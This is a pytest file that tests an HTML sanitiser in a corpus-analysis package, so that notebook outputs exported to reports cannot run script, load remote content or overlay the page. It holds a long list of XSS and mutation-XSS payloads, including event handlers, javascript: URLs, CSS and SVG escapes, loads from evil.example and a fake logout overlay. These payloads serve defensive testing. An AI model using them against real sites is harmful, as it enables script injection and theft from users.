"""HTML from a notebook cannot run, fetch, cover the page or take its names; our own charts and readers pass."""

from __future__ import annotations

import re
import tarfile
from collections import Counter
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import html5lib
import matplotlib.pyplot as plt
import pandas as pd
import pytest
from bs4 import BeautifulSoup, Tag
from nbformat.v4 import new_code_cell, new_notebook, new_output

import corpus_tools as ct
from corpus_tools.show.cells import PageWriter
from corpus_tools.show.charts.shown import inline_chart, result_table
from corpus_tools.show.markup import style_sheets
from corpus_tools.show.prose import page_address
from corpus_tools.show.report import export_report
from corpus_tools.show.sanitise import sanitise

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
XHTML, SVG = "{http://www.w3.org/1999/xhtml}", "{http://www.w3.org/2000/svg}"
# Written here anew: what a page may hold, whatever the lists of the package say.
QUIET = set(
    "html head body a abbr article aside b blockquote br caption cite code col colgroup dd del details dfn div dl dt "
    "em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q s samp section small "
    "span strong style sub summary sup svg table tbody td tfoot th thead time tr u ul var wbr".split()
)
DRAWN = set(
    "svg g defs clipPath path use rect circle ellipse line polyline polygon text tspan title desc style".split()
)
LOUD = re.compile(r"url\((?!['\"]?#)|@import|expression|javascript|behavior|binding|\\|/\*|position|fixed", re.I)
ARIA = re.compile("aria-(label|description|(labelled|described)by|controls|hidden|level)")
NAMES = {"id", "class", "style", "title", "role", "lang", "dir", "hidden", "tabindex", "data-key", "data-tie", "alt"}
ATTRIBUTES = NAMES | set(
    "href src width height colspan rowspan headers scope abbr span open start type value datetime viewBox d x y x1 x2 "
    "y1 y2 dx dy cx cy r rx ry rotate points transform focusable textLength pathLength preserveAspectRatio "
    "lengthAdjust clipPathUnits clip-path clip-rule fill fill-opacity fill-rule stroke stroke-dasharray "
    "stroke-dashoffset stroke-linecap stroke-linejoin stroke-miterlimit stroke-opacity stroke-width opacity color "
    "font font-family font-size font-style font-variant font-variant-numeric font-weight text-align text-anchor "
    "text-decoration dominant-baseline letter-spacing visibility".split()
)

RUN = "alert(1)"
PAYLOADS = [
    # scripts and handlers
    f"<script>{RUN}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror\n=\n'{RUN}'>",
    f"<img/src='x'/onerror={RUN}>",
    f"<img src=x:x\x00 onerror={RUN}>",
    f"<body onload={RUN}><p onpointerenter={RUN} onmouseover={RUN}>x</p>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee><keygen autofocus onfocus={RUN}>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<div onclick={RUN} ONCLICK={RUN} oNcLiCk={RUN}>x</div>",
    f"<x onclick={RUN} tabindex=0>x</x><my-element onclick={RUN}>x</my-element>",
    # addresses
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt&colon;{RUN}'>x</a>",
    f"<a href='java&#10;script:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=' &#1; javascript:{RUN}'>x</a>",
    f"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#58{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a><a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "<a href='//evil.example/01_names.html'>x</a><a href='https:01_names.html'>x</a>",
    "<a href='01_names.html?x=//evil.example'>x</a><a href='../01_names.html'>x</a>",
    "<a href='\\\\evil.example\\x.html'>x</a><a href='/etc/passwd'>x</a><a href='file:///x.html'>x</a>",
    f"<a href=\"#x' onclick='{RUN}\">x</a><a href='#\" onclick=\"{RUN}'>x</a>",
    "<a href='01_names.html' target=_blank ping=http://evil.example download>x</a>",
    "<a href='01_names.html#x\"><script>1</script>'>x</a>",
    "<img src=//evil.example/x.png srcset='//evil.example/y.png 2x' alt=x>",
    "<img src='data:text/html,<script>1</script>'><img src='data:image/png,<script>1</script>'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/bmp;base64,AAAA'><img src='blob:x'><img lowsrc=//evil.example dynsrc=//evil.example>",
    "<picture><source srcset=//evil.example/x.png media=all><img src=//evil.example/y.png></picture>",
    "<video poster=//evil.example/x src=//evil.example/y></video><embed src=//evil.example/x>",
    "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
    "<blockquote cite=//evil.example>x</blockquote><q cite=javascript:1>x</q><del cite=//evil.example>x</del>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>1</script>'></iframe>",
    "<object data=//evil.example></object><applet code=x archive=//evil.example></applet>",
    "<frameset><frame src=//evil.example></frameset><portal src=//evil.example></portal>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta name=referrer content=unsafe-url>",
    # forms and things that are pressed
    f"<form action=//evil.example><input name=a autofocus onfocus={RUN}><button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image><textarea autofocus onfocus={RUN}></textarea>",
    f"<select autofocus onfocus={RUN}><option>x</select><dialog open>x</dialog>",
    "<button popovertarget=x>x</button><div popover id=x>x</div>",
    "<p contenteditable autofocus accesskey=s tabindex=9 inert>x</p>",
    # style
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p { background: url(//evil.example/x) } .ct-x { color: red }</style>",
    "<style>main { display: none } input[value^=a] { background: u\\72l(//evil.example) }</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<style>/*</style><script>alert(1)</script>*/</style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<p style='background:url(//evil.example/x)'>x</p><p style='background:URL( //evil.example )'>x</p>",
    "<p style='background:u\\72 l(//evil.example/x)'>x</p><p style='color:expr/**/ession(alert(1))'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>You are logged out</p>",
    "<p style='behavior:url(#x);-moz-binding:url(//evil.example)'>x</p><p style='--x:url(//evil.example)'>x</p>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<p style=\"font-family:'x;}</style>';background-image:image-set('//evil.example/x' 1x)\">x</p>",
    "<p style='color:red!important;margin:-900px;transform:scale(99);content:url(//evil.example)'>x</p>",
    "<p style='list-style:url(//evil.example);cursor:url(//evil.example),auto;filter:url(//evil.example#x)'>x</p>",
    # drawings
    f"<svg onload={RUN}><script>{RUN}</script><script href=//evil.example/></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a><a href='javascript:{RUN}'><text>y</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/><use xlink:href='//evil.example/x.svg#y'/></svg>",
    "<svg><a id=a href='#b'><animate attributeName=href values='javascript:alert(1)'/></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
    "<svg><animateTransform onend=alert(1) /><animateMotion onrepeat=alert(1) /><handler>alert(1)</handler></svg>",
    "<svg><foreignObject><body onload=alert(1)><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><image href=//evil.example/x.png /><feImage href=//evil.example/x.svg /></svg>",
    "<svg><rect fill='url(//evil.example#x)' style='fill:url(//e.example#y)' clip-path='url(//e.example#z)'/></svg>",
    "<svg><style>@import '//evil.example';*{fill:url(//evil.example)}</style></svg>",
    "<svg><style><img src=x onerror=alert(1)></style><style type=text/css>*{fill:red}</style></svg>",
    "<svg><metadata><script>alert(1)</script></metadata><switch><script>alert(1)</script></switch></svg>",
    "<svg><mask id=m><image href=//evil.example /></mask><marker onload=alert(1)></marker><filter id=f></filter></svg>",
    "<svg><g id=a><use href='#a'/><use href='#a'/></g><g id=b><use href='#a'/><use href='#a'/></g></svg>",
    "<svg><path d='M0 0\" onload=\"alert(1)' transform='x(javascript:1)'/><text x='1;2'>y</text></svg>",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg><![CDATA[<img src=x onerror=alert(1)>]]>",
    # other trees than the one that was read
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'><maction actiontype='statusline#x' xlink:href='javascript:1'>x</math>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><p><title><b title='</title><img src=x onerror=alert(1)>'></title></svg>",
    "<svg><desc><table><td><style><b title='</style><img src=x onerror=alert(1)>'></desc></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><script>1</script>'></noembed><noframes><p title='</noframes><script>1</script>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title><plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<div><template shadowrootmode=open><script>1</script><slot></slot></template></div>",
    "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--!>",
    "<!-- --!><img src=x onerror=alert(1)> --><!---><img src=x onerror=alert(1)>-->",
    "<![if IE]><script>alert(1)</script><![endif]><?xml-stylesheet href='//evil.example'?><?php echo 1 ?><!DOCTYPE x>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<table><caption><svg><desc></table><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<a href='#x'><table><a href='javascript:alert(1)'>x</table></a><p><p><div></p></div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<b title='&lt;img src=x onerror=alert(1)&gt;'>x</b>",
    "<b title=\"'\"><b title='\"'><b title=`x`onclick=alert(1)``>x</b>",
    "<p title='x' title='\"><script>alert(1)</script>' class='</p><script>alert(1)</script>'>x</p>",
    "</div></div></main></body></html><script>alert(1)</script><p>x",
    # names that a script or a link looks for
    "<div id=main>x</div><a id=ctReaderKeys href='#main'>x</a><p id=ctReaderKeys>y</p>",
    "<img name=getElementById id=querySelectorAll src='data:image/png;base64,AAAA'><form name=body><input id=x></form>",
    "<p id='a b'>x</p><p id='\" onclick=\"alert(1)'>y</p><p id=''>z</p>",
    "<p role='alert' aria-live=assertive aria-hidden='x' aria-labelledby='main\" onclick=\"x'>x</p>",
    "<div class='ct-hit' data-key='\"]<' data-tie='\"],x' data-url='//evil.example' tabindex=0>x</div>",
]  # fmt: skip


def page_of(*outputs: str, **options: Any) -> str:
    writer = PageWriter(**options)
    return "\n".join(map(writer.fragment, outputs))


def check_quiet(html: str, *, mixed: bool = False) -> None:
    """Nothing but listed elements, attributes and values, in the tree that a browser builds.

    In a ``mixed`` tree an element of HTML may have landed in a drawing, where it is nothing at all.
    """
    check_elements(html5lib.parse(html).iter(), mixed=mixed)


def check_elements(elements: Iterable[Any], *, mixed: bool = False) -> None:
    ids = []
    for element in elements:
        assert isinstance(element.tag, str), "a comment or a declaration"
        space, _, name = element.tag.rpartition("}")
        allowed = QUIET | DRAWN if mixed else {XHTML: QUIET, SVG: DRAWN}.get(f"{space}}}", set())
        assert name in allowed, element.tag
        if name == "style":
            assert element.text in style_sheets()
            assert not element.attrib
        for attribute, value in element.attrib.items():
            check_attribute(name, str(attribute), value)
        ids += [element.attrib["id"]] if "id" in element.attrib else []
    assert len(ids) == len(set(ids))
    assert not {"main", "ctReaderKeys"} & set(ids)


def check_attribute(element: str, name: str, value: str) -> None:
    assert name in ATTRIBUTES or re.fullmatch(
        "aria-(label|description|(labelled|described)by|controls|hidden|level)", name
    ), (
        element,
        name,
    )
    assert name not in ("id", "class", "role", "dir") or re.fullmatch(r"[\w.: -]+", value), (name, value)
    if name == "href":
        assert re.fullmatch(r"#[\w.:%-]*|[\w-]+\.html(#[\w.:%-]*)?", value), value
        assert element in ("a", "use")
        assert element == "a" or value.startswith("#")
    if name == "src":
        assert element == "img"
        assert re.match(r"data:image/(png|jpeg|gif|svg\+xml);base64,[\w+/=\s]+\Z", value), value
    if name == "style" or name in ("fill", "stroke", "clip-path"):
        assert not LOUD.search(value), value
    if name == "tabindex":
        assert value in ("0", "-1")


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_in_every_tree(payload: str) -> None:
    html = page_of(payload)
    check_quiet(html)
    # Wherever it lands, and read again after a browser has written it once: the classic way around a cleaner.
    for around in ("<table>{}</table>", "<svg>{}</svg>", "<p>{}</p>", "<svg><desc>{}</desc></svg>", "<ul><li>{}</ul>"):
        check_quiet(around.format(html), mixed=True)
        tree = html5lib.parse(around.format(html), treebuilder="etree")
        again = html5lib.serialize(tree, tree="etree", omit_optional_tags=False, quote_attr_values="always")
        check_quiet(again, mixed=True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_in_its_box(payload: str) -> None:
    """What follows an output is where it was: the payload closes and opens nothing around it."""
    cleaned = page_of(payload)
    tree = html5lib.parse(
        f"<div id=around>{cleaned}<p id=after>x</p></div><p id=outside>x</p>", namespaceHTMLElements=False
    )
    around = tree.find(".//*[@id='around']")
    assert around.find(".//p[@id='after']") is not None
    assert around.find(".//*[@id='outside']") is None
    assert tree.find("body/p[@id='outside']") is not None


def test_the_checker_would_see_each_kind_of_harm() -> None:
    for harm in (
        "<script>1</script>",
        "<p onclick=x>x</p>",
        "<a href='https://example.org'>x</a>",
        "<img src='x.png'>",
        "<p style='background:url(x)'>x</p>",
        "<p style='position:absolute'>x</p>",
        "<style>p{}</style>",
        "<p><!-- x --></p>",
        "<svg><animate/></svg>",
        "<math></math>",
        "<p id=main>x</p>",
        "<p id=a>x</p><p id=a>x</p>",
    ):
        with pytest.raises(AssertionError):
            check_quiet(harm)


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<blink>shown</blink>", "shown"),
        ("<center><font color=red>shown</font></center>", "shown"),
        ("<a href='https://example.org'>shown</a>", "shown"),
        ("<nav>shown</nav><math><mi>shown</mi></math>", "shown"),
        ("<script>hidden</script><style>hidden</style><title>hidden</title><!-- hidden -->", ""),
        ("<svg><metadata>hidden</metadata><foreignObject>hidden</foreignObject></svg>", ""),
    ],
)
def test_words_stay_where_they_are_words(html: str, words: str) -> None:
    text = BeautifulSoup(page_of(html), "html.parser").get_text()
    assert "hidden" not in text
    assert words in text


@pytest.fixture(scope="module")
def strike() -> dict[str, pd.DataFrame]:
    articles = ct.read_articles("strike")
    voices = ct.find_voices(articles)
    hits = ct.find_hits(ct.tokenize(articles, voices), ct.read_lexicon("strike"))
    own = hits[hits["slot"] == "the stoppage"]
    shares = ct.framing_shares(own, articles, by=["outlet", "voice"])
    return {"articles": articles, "voices": voices, "hits": hits, "shares": shares}


def chart_of(frames: dict[str, pd.DataFrame]) -> str:
    chart = str(inline_chart(ct.plot_framing_shares(frames["shares"]), "Dots & lines"))
    plt.close("all")
    return chart.replace("</figure>", f"{result_table(frames['shares']).html}</figure>")


def parts(html: str) -> Counter[tuple[str, str, str]]:
    tree = html5lib.parse(html, namespaceHTMLElements=False).iter()
    return Counter(
        (str(element.tag), str(name), re.sub(r"\s*([:;,])\s*", r"\1", value))
        for element in tree
        for name, value in [("", ""), *element.attrib.items()]
    )


def test_our_own_charts_pass_unharmed(strike: dict[str, pd.DataFrame]) -> None:
    before = chart_of(strike)
    after = page_of(before)
    assert parts(before) - parts(after) == Counter()
    assert 'viewBox="' in after
    assert "<style>" in after


def test_our_own_readers_lines_and_tables_pass_unharmed(strike: dict[str, pd.DataFrame]) -> None:
    articles, voices, hits = strike["articles"], strike["voices"], strike["hits"]
    first = articles["article_id"].iloc[0]
    for html in (
        ct.show_article(articles, voices, hits, first).html,
        ct.kwic_table(ct.kwic(articles, hits, n=20), by=["label", "outlet"]).html,
        result_table(strike["shares"]).html,
    ):
        lost = parts(html) - parts(page_of(html))
        # The script of the reader, which a page brings along itself; and its headline, which fits into the page's.
        assert {kind for kind in lost if kind[0] not in ("h3", "script")} == set(), lost


def test_drawings_with_names_keep_their_case_and_their_pointers() -> None:
    drawing = (
        "<svg viewBox='0 0 9 9'><defs><clipPath id='c'><rect width='9' height='9'/></clipPath><path id='m' d='M0 0h1'/>"
        "</defs><g clip-path='url(#c)' style='fill:var(--ct-ink, #000);clip-path:url(#c)'>"
        "<use xlink:href='#m' x='1'/></g></svg>"
    )
    page = page_of(drawing, drawing)
    tree = html5lib.parse(page)
    assert [element.get("id") for element in tree.iter() if element.get("id")] == ["c", "m", "c-2", "m-2"]
    assert [clip.get("id") for clip in tree.iter(f"{SVG}clipPath")] == ["c", "c-2"]
    assert [group.get("clip-path") for group in tree.iter(f"{SVG}g")] == ["url(#c)", "url(#c-2)"]
    assert [group.get("style") for group in tree.iter(f"{SVG}g")] == [
        f"fill:var(--ct-ink, #000);clip-path:url(#{name})" for name in ("c", "c-2")
    ]
    assert [use.get("href") for use in tree.iter(f"{SVG}use")] == ["#m", "#m-2"]
    assert [drawn.get("viewBox") for drawn in tree.iter(f"{SVG}svg")] == ["0 0 9 9"] * 2


def test_a_shape_is_used_but_no_group_is() -> None:
    used = "<svg><path id=p d='M0 0h1'/><g id=g><use href='#p'/></g><use href='#g'/><use href='#none'/></svg>"
    assert re.findall(r'<use href="([^"]*)"', page_of(used)) == ["#p"]


def test_a_style_sheet_stays_once_on_a_page(strike: dict[str, pd.DataFrame]) -> None:
    lines = ct.kwic_table(ct.kwic(strike["articles"], strike["hits"], n=2)).html
    table = result_table(strike["shares"]).html
    page = page_of(lines, table, lines, table)
    assert page.count("<style>") == 2
    assert page.index(".ct-lines") < page.index(".ct-table")


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; FILL: rgb(1, 2, 3)", "color:red;FILL:rgb(1, 2, 3)"),
        ("left:12.5%;flex-grow:3", "left:12.5%;flex-grow:3"),
        ("--ct-hue: var(--ct-hue-1, #0072b2)", "--ct-hue:var(--ct-hue-1, #0072b2)"),
        ("font: italic 12px/1.5 'DejaVu Sans', serif", "font:italic 12px/1.5 'DejaVu Sans', serif"),
        ("clip-path:url(#a);clip-path:url(x#a);clip-path:url('#a')", "clip-path:url(#a);clip-path:url('#a')"),
        ("width:calc(1px + 2%);width:evil(1)", "width:calc(1px + 2%)"),
        ("color:var(--x", ""),
        ("margin:4px 0;margin:0 -9px", "margin:4px 0"),
        ("position:absolute;z-index:3;top:0;transform:none;display:none", "display:none"),
        ("--other: red; -moz-binding: none; color", ""),
    ],
)
def test_only_harmless_declarations_stay(style: str, kept: str) -> None:
    soup = BeautifulSoup("<p></p>", "html.parser")
    assert isinstance(soup.p, Tag)
    soup.p["style"] = style
    sanitise(soup, address=lambda url: None)
    assert soup.p.get("style", "") == kept


@pytest.mark.parametrize(
    ("url", "pages", "address"),
    [
        ("#here", None, "#here"),
        ("02_names.ipynb", None, "02_names.html"),
        ("./02_names.ipynb#Two-names", None, "02_names.html#two-names"),
        ("02_names.html#Kept_As.it-is", None, "02_names.html#Kept_As.it-is"),
        ("glossary.md#Direct%20speech", None, "glossary.html#direct-speech"),
        ("glossary.md#share", {"01_a"}, None),
        ("index.html", {"01_a"}, "index.html"),
        ("02_names.ipynb", {"01_a"}, None),
        ("README.md", None, None),
        ("a/02_names.ipynb", None, None),
        ("https://example.org/x.html", None, None),
        ('02_names.html#" onclick="x', None, "02_names.html#onclick-x"),
        ("", None, None),
    ],
)
def test_links_lead_to_places_of_the_report(url: str, pages: set[str] | None, address: str | None) -> None:
    assert page_address(url, pages) == address


def test_links_of_outputs_are_rewritten_like_those_of_prose() -> None:
    page = page_of("<p><a href='02_names.ipynb#A b'>x</a> <a href='03_other.ipynb'>y</a></p>", notebooks={"02_names"})
    assert re.findall("<a[^>]*>", page) == ['<a href="02_names.html#a-b">']


def test_our_chart_wins_over_a_picture_and_a_picture_over_foreign_html(strike: dict[str, pd.DataFrame]) -> None:
    bundle = {"image/png": PIXEL, "text/plain": "x"}
    output = {"output_type": "display_data", "metadata": {}}
    ours = PageWriter().output(output | {"data": {**bundle, "text/html": chart_of(strike)}})
    foreign = PageWriter().output(output | {"data": {**bundle, "text/html": "<p>table</p>"}})
    assert "<svg" in ours
    assert PIXEL not in ours
    assert PIXEL in foreign
    assert "table" not in foreign


def test_deep_nesting_is_no_trouble() -> None:
    check_quiet(page_of("<div><blink>" * 3000 + "x"))


# The adversarial set: what articles are called stays text, whatever it looks like.


def hostile_report(articles: pd.DataFrame, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """All pages of a report in which readers, lines, charts and frames show these articles."""
    monkeypatch.setattr("warnings.warn", lambda *_, **__: None)
    voices = ct.find_voices(articles)
    tokens = ct.tokenize(articles, voices)
    name = str(articles["outlet"].iloc[0])
    row = [name, str(articles["title"].iloc[0]), "the", "", "", name, name, False]
    lexicon = pd.DataFrame(
        [row], columns=["slot", "label", "pattern", "near", "unless", "attested_in", "note", "checked"]
    )
    word = tokens["term"].value_counts().index[0]
    hits = ct.find_phrase(tokens, str(word)).assign(slot=name, label=str(lexicon["label"].iloc[0]))
    shares = ct.framing_shares(hits, articles, by=["outlet"])
    outputs = [
        ct.kwic_table(ct.kwic(articles, hits), by=["outlet", "label"]).html,
        articles.head(20)._repr_html_(),
        inline_chart(ct.plot_framing_shares(shares), ct.describe(shares)),
        result_table(shares).html,
        *(ct.show_article(articles, voices, hits, one).html for one in articles["article_id"].head(6)),
    ]
    plt.close("all")
    cells = [new_code_cell("x", outputs=[new_output("display_data", data={"text/html": str(o)})]) for o in outputs]
    parameters = new_code_cell("corpus = 'strike'", metadata={"tags": ["parameters"]})
    notebook = new_notebook(cells=[parameters, *cells])
    notebook.metadata["corpus_tools"] = {
        "name": "01_hostile",
        "title": "T",
        "question": "Q?",
        "goals": ["g"],
        "minutes": 5,
        "needs": ["n"],
    }
    source = ct.inspect_source("strike")
    export_report(
        [notebook],
        folder,
        articles=articles,
        problems=source.problems,
        cleaning=source.cleaning,
        lexicon=lexicon,
        shares=shares,
        corpus=name,
    )
    return (folder / "01_hostile.html").read_text(encoding="utf-8")


def check_text(page: str, told: list[str]) -> None:
    """Every result of the page is quiet, and what was told stands in it as words."""
    results = [one for one in html5lib.parse(page).iter(f"{XHTML}div") if one.get("class") == "result"]
    assert len(results) > 4
    check_elements(element for one in results for element in one.iter())
    seen = " ".join(" ".join("".join(one.itertext()) for one in results).split())
    assert [name for name in told if name not in seen] == []


INJECTED = [f"inject/{name}.csv" for name in ("html_titles", "markdown_latex", "formula")]


@pytest.mark.parametrize("file", [*INJECTED, "uni/bidi_trojan.csv", "csv/outlet_variants.csv"])
def test_hostile_titles_and_outlets_stay_text(
    shared: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str
) -> None:
    articles = ct.read_articles(shared / "adversarial" / file, on_error="skip")
    hostile = articles.assign(outlet=articles["title"].where(articles.index % 2 == 0, articles["outlet"]))
    page = hostile_report(hostile, tmp_path, monkeypatch)
    check_text(page, [title[:12] for title in hostile["title"].head(3)])


def test_hostile_file_names_stay_text(shared: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with tarfile.open(shared / "adversarial" / "tree.tar.gz") as packed:
        packed.extractall(tmp_path, filter="fully_trusted")
    articles = ct.read_articles(tmp_path / "tree", on_error="skip")
    named = articles.assign(outlet=articles["article_id"], title=articles["article_id"])
    page = hostile_report(named, tmp_path / "report", monkeypatch)
    check_text(page, ["<img src=x onerror"])
